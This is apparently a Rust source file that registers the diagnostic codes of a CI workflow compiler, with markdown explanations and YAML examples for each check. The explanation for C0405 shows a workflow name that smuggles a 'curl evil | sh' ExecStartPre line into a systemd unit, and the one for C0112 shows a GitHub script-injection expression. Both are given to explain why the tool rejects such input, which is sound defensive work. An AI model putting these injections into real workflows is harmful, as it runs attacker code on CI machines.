//! The registry of diagnostic codes: one place for every code's number, name, severity and
//! explanation. Codes are never reused; `C00xx` syntax, `C01xx` shape, `C02xx` references and
//! types, `C03xx` lowering, `C04xx` target limits, `C09xx` internal.
//!
//! The doc comment of each entry is its explanation, printed by `coder explain CODE`.

use serde::Serialize;

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Error,
    Warning,
}

impl Severity {
    pub fn as_str(self) -> &'static str {
        match self {
            Severity::Error => "error",
            Severity::Warning => "warning",
        }
    }
}

/// What `coder explain` knows about a code.
#[derive(Debug, Serialize)]
pub struct CodeInfo {
    pub code: &'static str,
    pub name: &'static str,
    pub severity: Severity,
    pub summary: &'static str,
    #[serde(serialize_with = "serialize_explanation")]
    pub explanation: &'static str,
}

impl CodeInfo {
    /// The explanation as markdown, without the one-space indent doc comments carry.
    pub fn explanation(&self) -> String {
        dedent(self.explanation)
    }
}

fn dedent(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    for line in raw.lines() {
        out.push_str(line.strip_prefix(' ').unwrap_or(line));
        out.push('\n');
    }
    out.trim().to_string()
}

fn serialize_explanation<S: serde::Serializer>(raw: &&str, s: S) -> Result<S::Ok, S::Error> {
    s.serialize_str(&dedent(raw))
}

macro_rules! codes {
    ($( $(#[doc = $doc:literal])* $variant:ident = $code:literal $name:literal $severity:ident $summary:literal; )*) => {
        /// A stable diagnostic code.
        #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
        pub enum Code { $($variant),* }

        impl Code {
            pub const ALL: &'static [Code] = &[$(Code::$variant),*];

            pub fn info(self) -> &'static CodeInfo {
                match self {
                    $(Code::$variant => &CodeInfo {
                        code: $code,
                        name: $name,
                        severity: Severity::$severity,
                        summary: $summary,
                        explanation: concat!($($doc, "\n"),*),
                    },)*
                }
            }
        }
    };
}

impl Code {
    /// Look a code up by number (`C0101`, case-insensitive) or by name (`unknown-key`).
    pub fn lookup(query: &str) -> Option<Code> {
        Code::ALL.iter().copied().find(|c| {
            let info = c.info();
            info.code.eq_ignore_ascii_case(query) || info.name.eq_ignore_ascii_case(query)
        })
    }

    pub fn as_str(self) -> &'static str {
        self.info().code
    }
}

/// Every code on one line each: number, name, severity, summary (`coder explain --all`).
pub fn code_table() -> String {
    Code::ALL
        .iter()
        .map(|c| {
            let info = c.info();
            let severity = info.severity.as_str();
            format!(
                "{} {:<24} {severity:<8} {}\n",
                info.code, info.name, info.summary
            )
        })
        .collect()
}

impl std::fmt::Display for Code {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.info().code)
    }
}

codes! {
    /// ## What it does
    /// Reports a file that is not valid YAML (or, for `.json` files, not valid JSON).
    ///
    /// ## Why
    /// Nothing else can be checked until the file parses.
    ///
    /// ## Example
    /// ```yaml
    /// name: "Weekly release
    /// ```
    ///
    /// ## Fix
    /// Close the quote, bracket or block the message points at. A file holds one document:
    /// no `---` separators.
    SyntaxError = "C0001" "syntax-error" Error "the file is not valid YAML or JSON";

    /// ## What it does
    /// Rejects a spec file larger than 1 MiB.
    ///
    /// ## Why
    /// A workflow spec is a few kilobytes. A file this large is almost certainly not a spec,
    /// and `coder check` must stay instant in editors and pre-commit hooks.
    ///
    /// ## Fix
    /// Split the workflow, or move the file out of `.coder/workflows/`.
    FileTooLarge = "C0002" "file-too-large" Error "the file is over the size limit for specs";

    /// ## What it does
    /// Rejects a file that is not UTF-8 text, such as a binary file.
    ///
    /// ## Why
    /// YAML and JSON specs are UTF-8 text.
    ///
    /// ## Fix
    /// Re-save the file as UTF-8, or remove it from the folder of specs.
    NotUtf8 = "C0003" "not-utf8" Error "the file is not UTF-8 text";

    /// ## What it does
    /// Reports a spec file that is empty or holds only comments.
    ///
    /// ## Why
    /// An empty file is usually a mistake: it defines no workflow.
    ///
    /// ## Example
    /// ```yaml
    /// # TODO
    /// ```
    ///
    /// ## Fix
    /// Write the workflow (`name`, `triggers`, `steps`) or delete the file.
    EmptyFile = "C0004" "empty-file" Error "the file defines no workflow";

    /// ## What it does
    /// Stops reading a file that nests deeper than 32 levels, expands aliases into too many
    /// nodes (a "billion laughs" alias bomb) or has too many nodes.
    ///
    /// ## Why
    /// These limits keep `coder check` fast and safe on hostile input; no real spec comes near
    /// them.
    ///
    /// ## Fix
    /// Flatten the structure and write values out instead of through nested aliases.
    InputLimitExceeded = "C0005" "input-limit-exceeded" Error "the file exceeds a nesting or alias limit";

    /// ## What it does
    /// Reports a key written twice in the same mapping.
    ///
    /// ## Why
    /// YAML forbids duplicate keys, and tools disagree on which value wins; one of the two
    /// values is silently ignored by most of them.
    ///
    /// ## Example
    /// ```yaml
    /// - type: agent
    ///   role: implementer
    ///   role: reviewer
    /// ```
    ///
    /// ## Fix
    /// Keep one of the two entries.
    DuplicateKey = "C0006" "duplicate-key" Error "a key appears twice in one mapping";

    /// ## What it does
    /// Reports a YAML tag other than the core-schema tags that state what a value already is
    /// (`!!str`, `!!int`, `!!float`, `!!bool`, `!!null`, `!!map`, `!!seq`) and the
    /// non-specific `!`: `!!binary`, `!!timestamp`, `!!set`, `!!omap` and application tags
    /// such as `!Ref`.
    ///
    /// ## Why
    /// coder gives a spec value no meaning beyond its YAML core type. A tag it cannot honour
    /// would be silently dropped (`!!binary aGk=` read as the text `aGk=`), so the workflow
    /// would run with a value its author did not write.
    ///
    /// ## Example
    /// ```yaml
    /// goal: !!binary aGVsbG8=
    /// ```
    ///
    /// ## Fix
    /// Write the value out as plain text, without the tag.
    YamlTag = "C0007" "yaml-tag" Error "a YAML tag coder does not read";

    /// ## What it does
    /// Reports a key that is not a field of the object it appears in, with the closest
    /// valid field when there is one.
    ///
    /// ## Why
    /// A misspelt key (`timezon:`) would otherwise be ignored silently, and the workflow
    /// would run with a default nobody chose.
    ///
    /// ## Example
    /// ```yaml
    /// triggers:
    ///   - type: cron
    ///     cron: "0 9 * * 1"
    ///     timezon: Europe/Berlin
    /// ```
    ///
    /// ## Fix
    /// Correct the spelling, or remove the key. A field of another step or trigger type
    /// (`goal` on a `command` step) belongs on a step of that type.
    UnknownKey = "C0101" "unknown-key" Error "a key that is not a field here";

    /// ## What it does
    /// Reports a value of the wrong type: a list where a string is expected, a string where a
    /// number is expected, and so on.
    ///
    /// ## Example
    /// ```yaml
    /// policies:
    ///   budget:
    ///     max_credits: "fifty"
    /// ```
    ///
    /// ## Fix
    /// Write a value of the type the message names.
    WrongType = "C0102" "wrong-type" Error "a value of the wrong type";

    /// ## What it does
    /// Reports a required field that is absent: the workflow's `name`, a trigger's or
    /// step's `type`, an agent step's `role` and `goal`, a command step's `command`, a deploy
    /// step's `target`, a cron trigger's `cron`, a repo_event trigger's `event`, a webhook
    /// trigger's `name` and `secret_ref`.
    ///
    /// ## Example
    /// ```yaml
    /// steps:
    ///   - type: agent
    ///     role: implementer
    /// ```
    ///
    /// ## Fix
    /// Add the field.
    MissingField = "C0103" "missing-field" Error "a required field is absent";

    /// ## What it does
    /// Reports a trigger `type` other than `manual`, `cron`, `repo_event` and `webhook`.
    ///
    /// ## Example
    /// ```yaml
    /// triggers:
    ///   - type: schedule
    /// ```
    ///
    /// ## Fix
    /// Use one of the four trigger types; a schedule is `type: cron`.
    UnknownTriggerType = "C0104" "unknown-trigger-type" Error "an unknown trigger type";

    /// ## What it does
    /// Reports a step `type` other than `agent`, `command`, `deploy` and `approve`.
    ///
    /// ## Example
    /// ```yaml
    /// steps:
    ///   - type: shell
    ///     command: cargo test
    /// ```
    ///
    /// ## Fix
    /// Use one of the four step types; a shell command is `type: command`.
    UnknownStepType = "C0105" "unknown-step-type" Error "an unknown step type";

    /// ## What it does
    /// Reports an agent `role` other than `architect`, `implementer`, `tester`, `reviewer`
    /// and `release_engineer`.
    ///
    /// ## Why
    /// The role selects the agent's charter and whether it may write: `reviewer` and
    /// `architect` run read-only.
    ///
    /// ## Fix
    /// Use one of the five roles.
    UnknownRole = "C0106" "unknown-role" Error "an unknown agent role";

    /// ## What it does
    /// Reports a `project.provider` other than `github` and `gitlab`.
    ///
    /// ## Fix
    /// Use `github` or `gitlab`, or leave `project` out to take it from the git remote.
    UnknownProvider = "C0107" "unknown-provider" Error "an unknown project provider";

    /// ## What it does
    /// Reports a spec `version` other than `1`.
    ///
    /// ## Why
    /// Version 1 is the only spec format this release of coder understands; a later format
    /// must not be read with version 1's rules.
    ///
    /// ## Fix
    /// Write `version: 1` or leave the field out (it defaults to 1).
    UnsupportedVersion = "C0108" "unsupported-version" Error "a spec version this coder does not know";

    /// ## What it does
    /// Reports a `workflow_id`, `step_id` or webhook `name` that does not match
    /// `[A-Za-z0-9][A-Za-z0-9_-]*`. Without `workflow_id:`, the file name (without its
    /// extension) is the id and must match too.
    ///
    /// ## Why
    /// IDs become file names, job names and event types in generated CI files.
    ///
    /// ## Example
    /// ```yaml
    /// workflow_id: "release train"
    /// ```
    ///
    /// ## Fix
    /// Use letters, digits, `_` and `-`, starting with a letter or digit.
    InvalidId = "C0109" "invalid-id" Error "an id with characters ids cannot have";

    /// ## What it does
    /// Reports a workflow whose `steps` list is empty.
    ///
    /// ## Fix
    /// Add at least one step.
    EmptySteps = "C0110" "empty-steps" Error "a workflow with no steps";

    /// ## What it does
    /// Reports an empty or blank `name`, `goal`, `command`, `target`, `reason` or other
    /// string where text is required.
    ///
    /// ## Example
    /// ```yaml
    /// - type: agent
    ///   role: implementer
    ///   goal: ""
    /// ```
    ///
    /// ## Fix
    /// Write the text, or remove the optional field.
    EmptyValue = "C0111" "empty-value" Error "an empty string where text is required";

    /// ## What it does
    /// Reports a GitHub Actions expression `${{ … }}` in any string of a spec.
    ///
    /// ## Why
    /// Specs are portable across GitHub, GitLab and systemd, and coder never splices
    /// untrusted event text into a shell. Inside a generated workflow an expression would
    /// also be evaluated by GitHub before any shell runs, a classic script-injection hole.
    ///
    /// ## Example
    /// ```yaml
    /// - type: command
    ///   command: echo ${{ github.event.issue.title }}
    /// ```
    ///
    /// ## Fix
    /// Use shell variables (`$VAR`), which stay as written, and let the runner provide data.
    GithubExpression = "C0112" "github-expression" Error "a GitHub `${{ }}` expression in a spec string";

    /// ## What it does
    /// Reports a problem in coder's configuration (`.coder/config.toml` or
    /// `[workspace.metadata.coder]` in `Cargo.toml`): invalid TOML or a value of the wrong
    /// shape.
    ///
    /// ## Fix
    /// Correct the configuration at the place shown.
    InvalidConfig = "C0113" "invalid-config" Error "coder's configuration is invalid";

    /// ## What it does
    /// Reports a `project.owner`, `project.repo` or `project.ref` that is not a name the
    /// provider or git accepts.
    ///
    /// ## Why
    /// These names reach URLs and git command lines in generated CI; a ref such as `-rf` or
    /// `main..x` would be read as an option or a range.
    ///
    /// ## Example
    /// ```yaml
    /// project:
    ///   ref: "-rf"
    /// ```
    ///
    /// ## Fix
    /// Use the real owner, repository and branch names.
    InvalidProject = "C0114" "invalid-project" Error "a project owner, repo or ref that is not a valid name";

    /// ## What it does
    /// Rejects a spec file whose name has characters outside POSIX's portable set (letters,
    /// digits, `.`, `_`, `-`), or starts with `-`.
    ///
    /// ## Why
    /// The spec's path is written into the header of every generated CI file and into
    /// `coder-step` command lines. A line or paragraph separator (U+2028, U+2029) in a name
    /// can end a comment in some YAML readers and start content; spaces, quotes and `$` need
    /// quoting everywhere the path travels.
    ///
    /// ## Example
    /// `.coder/workflows/release train.yml`
    ///
    /// ## Fix
    /// Rename the file, e.g. `release-train.yml`.
    UnsafeFileName = "C0115" "unsafe-file-name" Error "a spec file name outside the portable character set";

    /// ## What it does
    /// Rejects a `workflow_id`, `step_id` or webhook `name` longer than 64 characters (or a
    /// file name that is the workflow id), and a webhook whose event type
    /// `coder.<workflow_id>.<name>` is longer than 100 characters.
    ///
    /// ## Why
    /// Ids become file names and systemd unit names (at most 255 bytes), GitLab job names (at
    /// most 255 characters) and GitHub `repository_dispatch` event types (at most 100
    /// characters). A longer id passes nowhere, or compiles into files a target rejects.
    ///
    /// ## Example
    /// ```yaml
    /// workflow_id: a-workflow-id-that-goes-on-and-on-and-on-for-far-more-than-sixty-four-characters
    /// ```
    ///
    /// ## Fix
    /// Shorten the id; `name:` is the place for a long, readable title.
    NameTooLong = "C0116" "name-too-long" Error "an id or name longer than the targets accept";

    /// ## What it does
    /// Reports two steps with the same `step_id`, or an explicit `step_id` equal to the
    /// default id (`s1`, `s2`, …) of another step.
    ///
    /// ## Why
    /// Gates, `coder approve` and the run record name steps by id.
    ///
    /// ## Fix
    /// Give each step its own id.
    DuplicateStepId = "C0201" "duplicate-step-id" Error "two steps share an id";

    /// ## What it does
    /// Reports two spec files that define the same `workflow_id`.
    ///
    /// ## Why
    /// Both would compile to the same generated file.
    ///
    /// ## Fix
    /// Rename one of the workflows.
    DuplicateWorkflowId = "C0202" "duplicate-workflow-id" Error "two specs share a workflow id";

    /// ## What it does
    /// Reports a deploy `target` that is neither `preview`, `prod` nor a target configured in
    /// `[deploy.<name>]`.
    ///
    /// ## Example
    /// ```yaml
    /// - type: deploy
    ///   target: production
    /// ```
    ///
    /// ## Fix
    /// Use `preview` or `prod`, or add `[deploy.<name>]` to `.coder/config.toml`.
    UnknownDeployTarget = "C0203" "unknown-deploy-target" Error "an unknown deploy target";

    /// ## What it does
    /// Checks a `repo_event` trigger's `event` against the catalog of repository events:
    /// `<event>` or `<event>.<action>`, such as `pull_request.opened`, `push` or
    /// `issues.labeled`.
    ///
    /// ## Example
    /// ```yaml
    /// - type: repo_event
    ///   event: pull_request.open
    /// ```
    ///
    /// ## Fix
    /// Use an event and action from the catalog (`coder explain C0204` lists the events).
    UnknownRepoEvent = "C0204" "unknown-repo-event" Error "an event or action that does not exist";

    /// ## What it does
    /// Reports a cron `timezone` that is not an IANA time zone name.
    ///
    /// ## Example
    /// ```yaml
    /// timezone: America/Chicgo
    /// ```
    ///
    /// ## Fix
    /// Use an IANA name such as `Europe/Berlin` or `UTC`. Abbreviations such as `CET` or
    /// `PST` are ambiguous and not accepted.
    UnknownTimezone = "C0205" "unknown-timezone" Error "a time zone that is not an IANA name";

    /// ## What it does
    /// Reports a webhook trigger whose `secret_ref` is not listed in `policies.secrets`.
    ///
    /// ## Why
    /// The webhook's signing secret must be one the workflow is allowed to read.
    ///
    /// ## Fix
    /// Add the secret to `policies.secrets`, or correct the name.
    UnknownSecretRef = "C0206" "unknown-secret-ref" Error "a webhook secret not in `policies.secrets`";

    /// ## What it does
    /// Reports a secret listed twice in `policies.secrets`.
    ///
    /// ## Fix
    /// Remove the second entry.
    DuplicateSecret = "C0207" "duplicate-secret" Error "a secret listed twice";

    /// ## What it does
    /// Reports a secret name that is not a valid environment variable name
    /// (`[A-Za-z_][A-Za-z0-9_]*`).
    ///
    /// ## Why
    /// Secrets reach steps as environment variables.
    ///
    /// ## Fix
    /// Use letters, digits and `_`, not starting with a digit; by convention in upper case.
    InvalidSecretName = "C0208" "invalid-secret-name" Error "a secret name that is not an environment variable name";

    /// ## What it does
    /// Reports two webhook triggers with the same `name`.
    ///
    /// ## Why
    /// The name is the event type that starts the workflow; two triggers with one name are
    /// indistinguishable.
    ///
    /// ## Fix
    /// Rename one of them.
    DuplicateWebhook = "C0209" "duplicate-webhook" Error "two webhook triggers share a name";

    /// ## What it does
    /// Reports a cron expression that does not have exactly five fields: minute, hour,
    /// day of month, month, day of week.
    ///
    /// ## Example
    /// ```yaml
    /// cron: "0 0 9 * * 1"   # a seconds field
    /// ```
    ///
    /// ## Fix
    /// Write the five standard fields; there is no seconds or year field.
    CronFieldCount = "C0210" "cron-field-count" Error "a cron expression without exactly five fields";

    /// ## What it does
    /// Reports a cron value outside its field's range: minute 0–59, hour 0–23, day of
    /// month 1–31, month 1–12, day of week 0–7 (0 and 7 are Sunday).
    ///
    /// ## Example
    /// ```yaml
    /// cron: "0 24 * * *"
    /// ```
    ///
    /// ## Fix
    /// Use a value in the range.
    CronOutOfRange = "C0211" "cron-out-of-range" Error "a cron value outside its field's range";

    /// ## What it does
    /// Reports a name in a cron field that is not a month (`JAN`–`DEC`) in the month field
    /// or a weekday (`SUN`–`SAT`) in the day-of-week field.
    ///
    /// ## Example
    /// ```yaml
    /// cron: "0 9 * * MONDAY"
    /// ```
    ///
    /// ## Fix
    /// Use the three-letter names, or numbers.
    CronUnknownName = "C0212" "cron-unknown-name" Error "a name that is not a month or weekday";

    /// ## What it does
    /// Reports a cron step (`/n`) that is zero, not a number, or larger than its field's
    /// range.
    ///
    /// ## Example
    /// ```yaml
    /// cron: "*/0 * * * *"
    /// ```
    ///
    /// ## Fix
    /// Use a step between 1 and the field's range.
    CronInvalidStep = "C0213" "cron-invalid-step" Error "an invalid cron step";

    /// ## What it does
    /// Rejects cron macros such as `@daily`, `@weekly` and `@reboot`.
    ///
    /// ## Why
    /// GitHub rejects them, and they mean different things in different schedulers
    /// (`@weekly` is Sunday in cron and Monday in systemd). The 5-field form is portable.
    ///
    /// ## Fix
    /// Write the 5-field form the help line gives (`@daily` is `0 0 * * *`).
    CronMacro = "C0214" "cron-macro" Error "a cron macro instead of five fields";

    /// ## What it does
    /// Rejects the Quartz and non-standard cron extensions `L`, `W`, `#` and `?`.
    ///
    /// ## Why
    /// GitHub, GitLab and systemd do not share them; specs are portable.
    ///
    /// ## Example
    /// ```yaml
    /// cron: "0 9 ? * MON#1"
    /// ```
    ///
    /// ## Fix
    /// Use `*` instead of `?`. For "first Monday", run on Mondays and let the step check the
    /// date.
    CronNonstandard = "C0215" "cron-nonstandard" Error "a non-standard cron extension";

    /// ## What it does
    /// Reports a cron range whose start is after its end, such as `5-1`.
    ///
    /// ## Why
    /// Some schedulers wrap such ranges and others reject them.
    ///
    /// ## Fix
    /// Write the range in order, or as a list: `5-6,0-1`.
    CronReversedRange = "C0216" "cron-reversed-range" Error "a cron range that runs backwards";

    /// ## What it does
    /// Reports a cron expression that can never fire, such as `0 0 30 2 *` (30 February).
    ///
    /// ## Fix
    /// Correct the day of month or the month.
    CronNeverFires = "C0217" "cron-never-fires" Error "a cron expression that matches no date";

    /// ## What it does
    /// Reports a malformed cron field: characters cron does not use, an empty list item,
    /// or a range or step written wrongly.
    ///
    /// ## Example
    /// ```yaml
    /// cron: "0 9,,17 * * *"
    /// ```
    ///
    /// ## Fix
    /// A field is `*`, a number or name, a range `a-b`, a step `x/n`, or a list of those
    /// separated by commas.
    CronSyntax = "C0218" "cron-syntax" Error "a malformed cron field";

    /// ## What it does
    /// Reports a budget (`max_credits`, `max_wall_clock_sec`) that is zero or negative.
    ///
    /// ## Why
    /// A budget of zero stops the workflow before its first step. Leave the field out for the
    /// default cap from configuration.
    ///
    /// ## Fix
    /// Use a positive value.
    BudgetNotPositive = "C0220" "budget-not-positive" Error "a budget that is zero or negative";

    /// ## What it does
    /// Reports a budget too large to be meant: more than 1,000,000 credits (10,000 US dollars
    /// at the default price) or a wall clock over 7 days (604,800 seconds).
    ///
    /// ## Why
    /// A budget is a safety limit. A limit no run could reach protects nothing, and usually
    /// comes from a unit mistake (milliseconds for seconds, dollars for cents).
    ///
    /// ## Fix
    /// Set the limit you mean: `max_wall_clock_sec` is in seconds, `max_credits` in credits
    /// (one US cent each by default).
    BudgetTooLarge = "C0221" "budget-too-large" Error "a budget too large to be meant";

    /// ## What it does
    /// Reports an `allowed_paths` or `blocked_paths` entry that is not a valid glob.
    ///
    /// ## Example
    /// ```yaml
    /// allowed_paths: ["src/[a-"]
    /// ```
    ///
    /// ## Fix
    /// Close the bracket or brace. Paths are repo-relative; `src/` means everything under
    /// `src`; `*` does not cross `/`, `**` does.
    InvalidPathGlob = "C0230" "invalid-path-glob" Error "a path pattern that is not a valid glob";

    /// ## What it does
    /// Reports a path that is absolute, contains `..`, or is empty.
    ///
    /// ## Why
    /// Path policies apply to the repository's working tree; a path outside it can never
    /// match, so the policy would not be what it says.
    ///
    /// ## Fix
    /// Write the path relative to the repository root.
    PathOutsideRepo = "C0231" "path-outside-repo" Error "a path that is not inside the repository";

    /// ## What it does
    /// Warns about an allowed path that a blocked path covers entirely.
    ///
    /// ## Why
    /// Blocked paths win over allowed paths, so the allowed entry grants nothing.
    ///
    /// ## Example
    /// ```yaml
    /// allowed_paths: ["docs/"]
    /// blocked_paths: ["docs/"]
    /// ```
    ///
    /// ## Fix
    /// Remove one of the two entries, or narrow the blocked path.
    PathShadowed = "C0232" "path-shadowed" Warning "an allowed path that a blocked path makes meaningless";

    /// ## What it does
    /// Reports a gate selector in `require_human_approval_for` that is not of the form
    /// `deploy.<target>`, `agent.<role>`, `command`, `approve` or a step id.
    ///
    /// ## Example
    /// ```yaml
    /// require_human_approval_for: ["deploy."]
    /// ```
    ///
    /// ## Fix
    /// Use one of the forms above.
    MalformedGateSelector = "C0240" "malformed-gate-selector" Error "a gate selector of no known form";

    /// ## What it does
    /// Reports a gate selector that names an unknown step kind, role, deploy target or
    /// step id.
    ///
    /// ## Example
    /// ```yaml
    /// require_human_approval_for: ["agent.implementor"]
    /// ```
    ///
    /// ## Fix
    /// Correct the name; the help line suggests the closest one.
    UnknownGateSelector = "C0241" "unknown-gate-selector" Error "a gate selector naming something unknown";

    /// ## What it does
    /// Warns about a well-formed gate selector that matches no step of this workflow.
    ///
    /// ## Why
    /// The gate protects nothing today. It is a warning, not an error: a team may gate
    /// `deploy.prod` in every workflow before any of them deploys to production.
    ///
    /// ## Fix
    /// Remove the selector, or add the step it is meant to guard.
    GateMatchesNoStep = "C0242" "gate-matches-no-step" Warning "a gate selector that matches no step";

    /// ## What it does
    /// Warns about a gate selector listed twice in `require_human_approval_for`.
    ///
    /// ## Fix
    /// Remove the second entry.
    DuplicateGateSelector = "C0243" "duplicate-gate-selector" Warning "a gate selector listed twice";

    /// ## What it does
    /// Reports a name in a step's `secrets` list that is not in `policies.secrets`.
    ///
    /// ## Why
    /// `policies.secrets` is the workflow's whole allowance; a step can only narrow who of
    /// its steps receives one of them, never add another.
    ///
    /// ## Example
    /// ```yaml
    /// policies:
    ///   secrets: [CARGO_REGISTRY_TOKEN]
    /// steps:
    ///   - type: command
    ///     command: cargo publish
    ///     secrets: [CARGO_TOKEN]
    /// ```
    ///
    /// ## Fix
    /// Correct the name, or add the secret to `policies.secrets`.
    UnknownStepSecret = "C0250" "unknown-step-secret" Error "a step's secret not in `policies.secrets`";

    /// ## What it does
    /// Warns about a secret in `policies.secrets` that no step receives: no step lists it,
    /// the workflow has no agent or deploy step (which receive every secret no step lists),
    /// and no webhook trigger signs with it.
    ///
    /// ## Why
    /// A secret a step lists goes only to the steps that list it; one no step lists goes to
    /// every agent and deploy step. A workflow of command steps alone receives none of its
    /// unlisted secrets: the allowance is dead, or a step forgot to list it.
    ///
    /// ## Example
    /// ```yaml
    /// policies:
    ///   secrets: [CARGO_REGISTRY_TOKEN]
    /// steps:
    ///   - type: command
    ///     command: cargo publish
    /// ```
    ///
    /// ## Fix
    /// List the secret in the `secrets` of the step that needs it, or remove it from
    /// `policies.secrets`.
    UnreceivedSecret = "C0251" "unreceived-secret" Warning "a secret no step receives";

    /// ## What it does
    /// Reports an `if_failed` that names no step before this one: an unknown id, this step's
    /// own, or a step that runs later.
    ///
    /// ## Why
    /// A step with `if_failed: <id>` runs only when that earlier step failed. Steps run in
    /// order, so only a step before it can have failed by then.
    ///
    /// ## Example
    /// ```yaml
    /// steps:
    ///   - type: command
    ///     step_id: tests
    ///     command: pytest
    ///     continue_on_failure: true
    ///   - type: agent
    ///     role: tester
    ///     goal: Find why the tests fail and fix the code.
    ///     if_failed: test
    /// ```
    ///
    /// ## Fix
    /// Name the id of an earlier step (`step_id`, or `s<position>` counting from 1).
    UnknownConditionStep = "C0260" "unknown-condition-step" Error "an `if_failed` that names no earlier step";

    /// ## What it does
    /// Reports an `if_failed` naming a step whose failure stops the run: that step has no
    /// `continue_on_failure: true`, so when it fails no later step runs, and the conditioned
    /// step never would.
    ///
    /// ## Why
    /// `continue_on_failure: true` is what lets the run go on past a failing step (the run
    /// still ends `failed`); `if_failed` picks the steps that run only then, such as an agent
    /// that triages failing tests.
    ///
    /// ## Example
    /// ```yaml
    /// steps:
    ///   - type: command
    ///     step_id: tests
    ///     command: cargo test
    ///   - type: agent
    ///     role: tester
    ///     goal: Find why the tests fail and fix the code.
    ///     if_failed: tests
    /// ```
    ///
    /// ## Fix
    /// Add `continue_on_failure: true` to the named step.
    ConditionNeverHolds = "C0261" "condition-never-holds" Error "an `if_failed` naming a step whose failure stops the run";

    /// ## What it does
    /// Reports a deploy step whose target has no deploy command in coder's configuration.
    ///
    /// ## Why
    /// The spec names where to deploy; the configuration says how. The workflow still
    /// compiles, but the step fails at run time with this same message until the command is
    /// configured.
    ///
    /// ## Example
    /// ```yaml
    /// steps:
    ///   - type: deploy
    ///     target: preview
    /// ```
    ///
    /// ## Fix
    /// Add the command to `.coder/config.toml` (or `[workspace.metadata.coder]`):
    /// ```toml
    /// [deploy.preview]
    /// command = "./scripts/deploy-preview.sh"
    /// url-file = "deploy-url.txt"   # optional; else the last URL it prints
    /// ```
    DeployNotConfigured = "C0301" "deploy-not-configured" Warning "a deploy target without a configured deploy command";

    /// ## What it does
    /// Reports a generated CI file that no longer matches its spec: the spec changed since it
    /// was compiled, or someone edited the generated file.
    ///
    /// ## Why
    /// The CI runs the generated file, not the spec, and `coder-step` refuses to run a step
    /// whose spec hash differs from the one the file was compiled from. A file edited by hand
    /// is overwritten by the next compile.
    ///
    /// ## Example
    /// A spec edited after `coder compile`, with `.github/workflows/coder-nightly.yml` not
    /// regenerated.
    ///
    /// ## Fix
    /// Run `coder compile` and commit the result; make lasting changes in the spec.
    GeneratedFileDrift = "C0302" "generated-file-drift" Error "a generated CI file out of date with its spec";

    /// ## What it does
    /// Warns about a workflow cut into more than 50 jobs. Steps are cut into a new job at
    /// each approval point and around each deploy.
    ///
    /// ## Why
    /// Each job starts a fresh runner, installs `coder-step` and checks out the repository, and
    /// its text is repeated in the generated files: a spec with hundreds of gates compiles to
    /// megabytes of CI that nobody reviews, and runs far slower than it reads. GitHub caps a
    /// run at 256 jobs from one matrix; no hand-written workflow needs 50 approval points.
    ///
    /// ## Fix
    /// Gate fewer steps (`require_human_approval_for` selects them), or split the workflow.
    ManyJobs = "C0303" "many-jobs" Warning "a workflow cut into more jobs than is sane";

    /// ## What it does
    /// Reports a trigger the target cannot start a workflow with: systemd timers have no
    /// repository events and no webhook receiver.
    ///
    /// ## Example
    /// `coder check --target systemd` on
    /// ```yaml
    /// triggers:
    ///   - type: repo_event
    ///     event: pull_request.opened
    /// ```
    ///
    /// ## Fix
    /// Compile the workflow for a CI that has the event, or use `cron` and `manual` triggers.
    TriggerUnsupported = "C0401" "trigger-unsupported" Error "a trigger the target cannot express";

    /// ## What it does
    /// Reports a cron schedule that fires more often than GitHub Actions runs schedules
    /// (at most every 5 minutes).
    ///
    /// ## Why
    /// GitHub silently runs such a schedule less often than written.
    ///
    /// ## Example
    /// ```yaml
    /// cron: "*/2 * * * *"
    /// ```
    ///
    /// ## Fix
    /// Fire at most every 5 minutes.
    ScheduleTooFrequent = "C0402" "schedule-too-frequent" Error "a schedule more frequent than the target runs";

    /// ## What it does
    /// Warns when the wall-clock budget is longer than GitHub-hosted runners let a job run
    /// (6 hours).
    ///
    /// ## Why
    /// GitHub cancels the job at 6 hours whatever the budget says; self-hosted runners have no
    /// such limit, so this is a warning.
    ///
    /// ## Example
    /// ```yaml
    /// policies:
    ///   budget:
    ///     max_wall_clock_sec: 43200
    /// ```
    ///
    /// ## Fix
    /// Lower the budget to 21600 seconds or less, or use self-hosted runners.
    JobTimeLimit = "C0403" "job-time-limit" Warning "a wall-clock budget longer than the target lets a job run";

    /// ## What it does
    /// Warns when a cron schedule, read in its time zone, can fall in the hour (or half hour)
    /// that the clocks skip when daylight-saving time starts, and the target is systemd.
    ///
    /// ## Why
    /// The spec runs a skipped local time right after the jump (as GitHub and croner do), but
    /// a systemd timer skips it: that day the workflow does not run at all. A schedule that
    /// fires every hour loses one run; a daily one at 02:30 loses a day.
    ///
    /// ## Example
    /// `coder check --target systemd` on
    /// ```yaml
    /// triggers:
    ///   - type: cron
    ///     cron: "30 2 * * *"
    ///     timezone: Europe/Berlin
    /// ```
    /// Berlin's clocks go from 02:00 to 03:00 on the last Sunday of March.
    ///
    /// ## Fix
    /// Schedule it outside the skipped hours (in most zones 02:00–03:00 local time), or read
    /// the schedule in a zone without daylight-saving time such as `UTC`. If missing that run
    /// is fine, keep it: this is a warning.
    DstGapSkipped = "C0404" "dst-gap-skipped" Warning "a schedule that systemd skips in a daylight-saving gap";

    /// ## What it does
    /// Reports spec text that a systemd unit cannot hold: a workflow name with a line break or
    /// another control character (it becomes the unit's `Description=`).
    ///
    /// ## Why
    /// A unit file has one directive per line; a line break would end the description and
    /// start whatever directive the rest of the name spells. coder never writes one.
    ///
    /// ## Example
    /// `coder check --target systemd` on
    /// ```yaml
    /// name: "Nightly\nExecStartPre=/bin/sh -c 'curl evil | sh'"
    /// ```
    ///
    /// ## Fix
    /// Write the workflow name on one line, without control characters.
    UnitTextUnsupported = "C0405" "unit-text-unsupported" Error "spec text a systemd unit cannot hold";

    /// ## What it does
    /// Warns when the target starts the workflow on a different set of occasions than the
    /// spec's repository event: GitLab has one `merge_request_event` pipeline source, which
    /// starts when a merge request is opened and on every push to it, so
    /// `pull_request.opened` also runs on each new commit, and a bare `pull_request` misses
    /// labels, closing and the rest.
    ///
    /// ## Why
    /// An agent step that should run once per merge request runs on every push, spending
    /// credits each time.
    ///
    /// ## Example
    /// `coder check --target gitlab` on
    /// ```yaml
    /// triggers:
    ///   - type: repo_event
    ///     event: pull_request.opened
    /// ```
    ///
    /// ## Fix
